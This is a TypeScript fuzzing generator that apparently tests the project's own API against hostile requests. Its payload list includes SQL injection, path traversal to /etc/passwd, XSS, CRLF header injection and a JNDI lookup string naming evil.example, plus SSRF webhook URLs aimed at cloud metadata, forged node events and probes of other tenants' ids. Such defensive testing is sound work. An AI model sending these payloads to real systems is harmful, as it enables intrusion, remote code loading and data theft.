// A seeded generator of malformed and hostile requests against the public API: wrong types, missing
// fields, huge bodies, bad JSON, wrong methods, other keys' ids, injection strings, forged node
// calls. The same seed always gives the same requests, so a failure can be replayed.

export type HostileRequest = { label: string; method: string; path: string; headers: Record<string, string>; body?: string };

export type Targets = {
  /** The attacker's own keys. */
  keys: string[];
  /** Ids that belong to another key (entries, webhook endpoints, deliveries). */
  victimEntryIds: string[];
  victimEndpointIds: string[];
  victimDeliveryIds: string[];
};

/** mulberry32: small, fast, deterministic. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const injections = [
  "' OR '1'='1",
  "'; DROP TABLE entries; --",
  '" OR ""="',
  "1; DELETE FROM api_keys",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "<script>alert(1)</script>",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "%00",
  "\u0000",
  "\u202e\u0633\u0644\u0627\u0645",
  "😀".repeat(50),
  "A".repeat(5000),
  "ent_' UNION SELECT * FROM api_keys --",
  "ent_01m8650f76ea49etygyrajc1e%27",
  "null",
  "undefined",
  "__proto__",
  "constructor",
  "-1",
  "9".repeat(400),
  "1e309",
  "NaN",
  "\r\nX-Injected: yes",
  "%0d%0aX-Injected:%20yes",
];

const weirdValues: unknown[] = [null, true, false, 0, -1, 1.5, 2 ** 53, -(2 ** 63), "", " ", [], [1, 2], {}, { $gt: "" }, { __proto__: { admin: true } }, "x".repeat(300), ...injections];

const validBody = { subject: "Theosis", tier: "S", category: "Theology" };

export function generateHostileRequests(seed: number, count: number, t: Targets): HostileRequest[] {
  const random = prng(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)]!;
  const key = () => pick(t.keys);
  const auth = () => ({ authorization: `Bearer ${key()}` });
  const json = (value: unknown) => ({ body: JSON.stringify(value), headers: { ...auth(), "content-type": "application/json" } });
  const enc = (s: string) => encodeURIComponent(s);
  const victimId = () => pick([...t.victimEntryIds, ...t.victimEndpointIds, ...t.victimDeliveryIds]);

  const makers: (() => Omit<HostileRequest, "label"> & { label?: string })[] = [
    // Wrong types and missing or extra fields in a submission.
    () => {
      const body: Record<string, unknown> = { ...validBody };
      const field = pick(["subject", "tier", "category", "seed", "webhook_url", "extra", "__proto__"]);
      body[field] = pick(weirdValues);
      if (random() < 0.3) delete body[pick(["subject", "tier", "category"])];
      return { method: "POST", path: "/v1/entries", ...json(body) };
    },
    () => ({ method: "POST", path: "/v1/entries", ...json(pick(weirdValues)) }),
    // Huge bodies: over the 64 KiB limit, declared or not.
    () => ({ method: "POST", path: pick(["/v1/entries", "/v1/webhooks", `/v1/entries/${pick(t.victimEntryIds)}/cancel`]), ...json({ ...validBody, subject: "x".repeat(65_000 + Math.floor(random() * 200_000)) }) }),
    // Bad JSON.
    () => {
      const text = pick(['{"subject": "Theosis", "tier": "S"', "{subject: Theosis}", "[1,2,", '{"a":1}}', "\u0000\u0001", "NaN", '{"subject": "\\ud800"}', "[".repeat(5000) + "]".repeat(5000), '{"tier":"S","tier":"A"}', "true", "\"\\u0000\""]);
      return { method: "POST", path: pick(["/v1/entries", "/v1/webhooks", "/v1/webhooks/secret/rotate"]), body: text, headers: { ...auth(), "content-type": pick(["application/json", "text/plain", "application/x-www-form-urlencoded"]) } };
    },
    // Wrong methods on every route.
    () => ({
      method: pick(["PUT", "PATCH", "DELETE", "OPTIONS", "GET", "POST"]),
      path: pick(["/v1/entries", `/v1/entries/${pick(t.victimEntryIds)}`, "/v1/webhooks", "/v1/webhooks/deliveries", "/v1/nodes", "/v1/node/heartbeat", "/health", "/v1"]),
      headers: auth(),
    }),
    // Other keys' ids, on every route that takes one.
    () => {
      const id = victimId();
      const [method, path] = pick([
        ["GET", `/v1/entries/${id}`],
        ["GET", `/v1/entries/${id}/content`],
        ["GET", `/v1/entries/${id}/content?format=json`],
        ["POST", `/v1/entries/${id}/cancel`],
        ["GET", `/v1/webhooks/${id}`],
        ["DELETE", `/v1/webhooks/${id}`],
        ["POST", `/v1/webhooks/${id}/rotate`],
        ["POST", `/v1/webhooks/${id}/enable`],
        ["GET", `/v1/webhooks/deliveries/${id}`],
        ["POST", `/v1/webhooks/deliveries/${id}/replay`],
        ["GET", `/v1/webhooks/deliveries?entry_id=${id}`],
        ["GET", `/v1/entries?cursor=${btoa(id)}`],
      ] as const);
      return { method, path, headers: auth(), ...(method === "POST" && random() < 0.5 ? { body: "{}" } : {}) };
    },
    // Injection strings in path parameters and queries.
    () => {
      const s = enc(pick(injections));
      return {
        method: "GET",
        path: pick([`/v1/entries/${s}`, `/v1/entries/${s}/content`, `/v1/entries?status=${s}`, `/v1/entries?limit=${s}`, `/v1/entries?cursor=${s}`, `/v1/webhooks/${s}`, `/v1/webhooks/deliveries/${s}`, `/v1/webhooks/deliveries?entry_id=${s}&status=${s}`, `/v1/entries?status=queued&status=failed&limit=1&limit=2`]),
        headers: auth(),
      };
    },
    // Injection strings in bodies that are otherwise valid.
    () => ({ method: "POST", path: "/v1/entries", ...json({ ...validBody, [pick(["subject", "category"])]: pick(injections) }) }),
    () => ({ method: "POST", path: "/v1/webhooks", ...json({ url: pick(["http://127.0.0.1/x", "http://169.254.169.254/latest/meta-data", "http://[::1]/", "file:///etc/passwd", "javascript:alert(1)", `https://example.com/${pick(injections)}`, "http://localhost:8787/v1/entries", "gopher://x"]), events: random() < 0.5 ? ["entry.succeeded"] : [pick(injections)] }) }),
    // Broken or hostile credentials.
    () => ({
      method: pick(["GET", "POST"]),
      path: pick(["/v1/entries", "/v1/webhooks", `/v1/entries/${pick(t.victimEntryIds)}`]),
      headers: { authorization: pick(["", "Bearer", "Bearer ", `Basic ${btoa("a:b")}`, `Bearer ${"k".repeat(500)}`, `Bearer ${pick(injections).replace(/[\r\n\u0000-\u001f\u007f-\uffff]/g, "")}`, `bearer opus_sk_${"0".repeat(32)}`]) },
    }),
    // Hostile headers.
    () => ({
      method: "POST",
      path: "/v1/entries",
      ...json(validBody),
      headers: { ...auth(), "content-type": "application/json", "idempotency-key": pick(["x".repeat(300), "a b", "\u00e9t\u00e9", "' OR 1=1 --", "k"]).replace(/[^\x20-\x7e]/g, "?"), ...(random() < 0.5 ? { "if-none-match": "*" } : {}) },
    }),
    () => ({ method: "GET", path: `/v1/entries/${pick(t.victimEntryIds)}/content`, headers: { ...auth(), accept: pick(["image/png", "*/*;q=abc", "application/json;q=0", "text/markdown;q=-1", ",,,", "x".repeat(2000)]) } }),
    // Forged node traffic: unsigned, garbage signatures, against other keys' jobs.
    () => ({
      method: "POST",
      path: pick([`/v1/node/entries/${pick(t.victimEntryIds)}/events`, "/v1/node/heartbeat", "/v1/node/lease", "/v1/node/register", `/v1/node/entries/${pick(t.victimEntryIds)}/events?node=${enc(pick(injections))}`]),
      body: JSON.stringify({ type: "finished", seq: 99, status: "succeeded", progress: 1, entry: { title: "pwned", markdown: "x", sections: [], words: 1, metadata: {} }, node_id: "evil", capacity: 1, active: 0, max: 64 }),
      headers: {
        "content-type": "application/json",
        ...(random() < 0.7 ? { "webhook-id": pick(["msg_1", pick(injections).replace(/[^\x20-\x7e]/g, "")]), "webhook-timestamp": pick([String(Math.floor(Date.now() / 1000)), "0", "abc", "99999999999"]), "webhook-signature": pick(["v1,AAAA", "v1,", "v2,xyz", "", "v1a,zzz"]) } : {}),
      },
    }),
    // Webhook management with wrong types.
    () => ({ method: "POST", path: "/v1/webhooks", ...json({ url: pick(weirdValues), events: pick(weirdValues), description: pick(weirdValues) }) }),
    () => ({ method: "POST", path: `/v1/webhooks/${pick(t.victimEndpointIds)}/rotate`, ...json({ overlap_seconds: pick(weirdValues) }) }),
  ];

  const out: HostileRequest[] = [];
  for (let i = 0; i < count; i++) {
    const n = Math.floor(random() * makers.length);
    const r = makers[n]!();
    out.push({ label: `#${i} kind ${n}`, method: r.method, path: r.path, headers: r.headers, body: r.body });
  }
  return out;
}
